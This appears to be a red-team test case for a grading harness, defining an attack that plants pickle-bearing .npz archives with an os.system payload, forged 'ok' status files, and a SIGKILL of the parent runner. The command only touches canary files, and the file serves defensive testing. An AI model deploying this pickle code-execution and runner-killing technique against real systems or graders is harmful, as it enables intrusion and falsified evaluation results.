"""A pickle-bearing .npz planted in every call's output directory, kept there by killing the runner."""

from __future__ import annotations

from tests.redteam.attacks import Attack, Cell

PLANT = r"""
import glob
import io
import os
import pickle
import signal
import zipfile

import numpy as np

CANARY = "dlgrade_pwned_@TOKEN@_npz"
COMMAND = f"touch /tmp/{CANARY} @COURSE@/{CANARY} @HOST_HOME@/{CANARY}"


class Payload:
    def __reduce__(self):
        return (os.system, (COMMAND,))


def _member(array, allow_pickle=True):
    buffer = io.BytesIO()
    np.lib.format.write_array(buffer, array, allow_pickle=allow_pickle)
    return buffer.getvalue()


def plant():
    objects = _member(np.array([Payload(), Payload()], dtype=object))
    raw_pickle = pickle.dumps(Payload())
    for number, directory in enumerate(sorted(glob.glob("/out/calls/*"))):
        archive = io.BytesIO()
        kind = number % 4
        with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED if kind == 1 else zipfile.ZIP_STORED) as z:
            if kind == 2:
                z.writestr("a0.pkl", raw_pickle)  # a plain pickle member
            elif kind == 3:
                z.writestr("a0.npy", raw_pickle)  # a pickle where an .npy belongs
            else:
                z.writestr("a0.npy", objects)  # an object array (deflated when kind == 1)
        for name, data in (("arrays.npz", archive.getvalue()),
                           ("data.json", b'{"$": "ndarray", "ref": "a0"}'),
                           ("status.json", b'{"status": "ok", "seconds": 0.1}')):
            try:
                with open(f"{directory}/{name}", "wb") as handle:
                    handle.write(data)
            except OSError:
                pass


def initialize_parameters(n_x, n_h, n_y):
    plant()
    os.kill(os.getppid(), signal.SIGKILL)  # the runner will not overwrite what was planted
    os._exit(0)
"""

ATTACK = Attack(
    name="planted_npz",
    summary="the first graded call writes, for every call, an arrays.npz holding a pickled object array "
    "(stored, deflated), a raw pickle or a pickle named .npy, data.json referring to it and status "
    "'ok', then kills the runner so that nothing overwrites them",
    cells=(Cell(PLANT),),
    statuses=frozenset({"crashed"}),
)
